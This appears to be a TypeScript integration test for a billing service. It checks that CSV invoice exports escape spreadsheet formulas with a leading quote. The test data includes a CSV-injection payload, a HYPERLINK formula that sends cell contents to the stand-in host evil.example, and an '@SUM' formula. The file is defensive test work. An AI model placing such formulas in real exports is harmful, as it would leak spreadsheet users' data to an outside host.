import { Api } from '@mercato/test-support/api-client';
import { orderBilledResource } from '@mercato/test-support/billed-resource';
import { DATABASE_KINDS, startTestServer, type TestServer } from '@mercato/test-support/server-harness';
import { makeWorld, type World } from '@mercato/test-support/world';

/**
 * Billing tried as its users would (issue 13), over HTTP on both databases: faults found by trying
 * it, each kept here as the test that found it.
 */
describe.each(DATABASE_KINDS)('billing tried out on %s', (kind) => {
  let server: TestServer;
  let admin: Api;
  let w: World;

  beforeAll(async () => {
    server = await startTestServer(kind, { worker: { pollIntervalMs: 20 } });
    admin = new Api(server.url, server.adminToken);
    w = await makeWorld(admin, `try-${kind}`);
  });
  afterAll(() => server?.close());

  test('CSV export: a cell a spreadsheet would run as a formula starts with a quote (OWASP); JSON keeps the name', async () => {
    const sm = w.serviceManager.api;
    const owner = w.consumer.owner.api;
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Open, then\nsee")';
    const billed = await orderBilledResource(w, formula);
    await sm.expect(200, sm.patch(`/plans/${billed.plan.id}`, { name: '@SUM(1+1)' }));
    const path = `/invoices/${w.consumer.organization.id}/${billed.period}`;
    const invoice = await owner.expect(200, owner.get(path));
    expect(invoice.items.map((i: { resource_name: string }) => i.resource_name)).toEqual([formula, formula]);
    const csv = await owner.get(`${path}?format=csv`);
    expect(csv.status).toBe(200);
    const rows = (csv.body as string).split('\r\n').slice(1, -1);
    expect(rows).toHaveLength(2);
    for (const row of rows) {
      // RFC 4180 still: quoted, quotes doubled, the line break kept inside the quotes.
      expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Open, then\nsee"")",`);
      expect(row).toContain(",'@SUM(1+1),");
      expect(row).not.toMatch(/,[=+\-@]/);
    }
    // Amounts, quantities and prices stay numbers.
    expect(rows[0]).toMatch(/,3,2\.345,USD,.*,0,7\.04$/);
  });
});
